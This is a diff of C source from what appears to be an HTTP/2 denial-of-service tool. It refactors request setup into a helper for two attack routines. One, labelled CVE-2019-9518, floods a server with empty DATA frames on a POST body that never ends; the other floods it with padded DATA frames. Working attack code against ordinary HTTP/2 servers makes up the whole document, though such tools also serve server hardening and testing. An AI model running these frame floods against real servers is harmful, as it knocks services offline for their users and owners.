@@ -36,17 +36,22 @@ static void fill_continuation_empty(struct attack_run *run, struct attack_peer *
         h2_put(peer, H2_CONTINUATION, 0, 1, NULL, 0);
 }
 
+/* A request whose body is yet to come. */
+static void begin_post(struct attack_peer *peer)
+{
+    uint8_t block[256];
+    size_t len = hpack_put_request(block, "/post");
+
+    block[0] = 0x83; /* :method: POST */
+    h2_put(peer, H2_HEADERS, H2_END_HEADERS, 1, block, len);
+}
+
 /* CVE-2019-9518: DATA without data, of a body that never ends. */
 static void fill_data_empty(struct attack_run *run, struct attack_peer *peer, uint32_t round)
 {
-    uint8_t block[256] = {0x83, 0x87}; /* :method: POST */
-
     (void)run;
-    if (round == 0) {
-        size_t len = hpack_put_request(block, "/post");
-        block[0] = 0x83;
-        h2_put(peer, H2_HEADERS, H2_END_HEADERS, 1, block, len);
-    }
+    if (round == 0)
+        begin_post(peer);
     for (int i = 0; i < PORTION; i++)
         h2_put(peer, H2_DATA, 0, 1, NULL, 0);
 }
@@ -55,14 +60,10 @@ static void fill_data_empty(struct attack_run *run, struct attack_peer *peer, ui
 static void fill_data_padding(struct attack_run *run, struct attack_peer *peer, uint32_t round)
 {
     static const uint8_t padding[256] = {255};
-    uint8_t block[256];
 
     (void)run;
-    if (round == 0) {
-        size_t len = hpack_put_request(block, "/post");
-        block[0] = 0x83;
-        h2_put(peer, H2_HEADERS, H2_END_HEADERS, 1, block, len);
-    }
+    if (round == 0)
+        begin_post(peer);
     for (int i = 0; i < PORTION; i++)
         h2_put(peer, H2_DATA, H2_PADDED, 1, padding, sizeof(padding));
 }
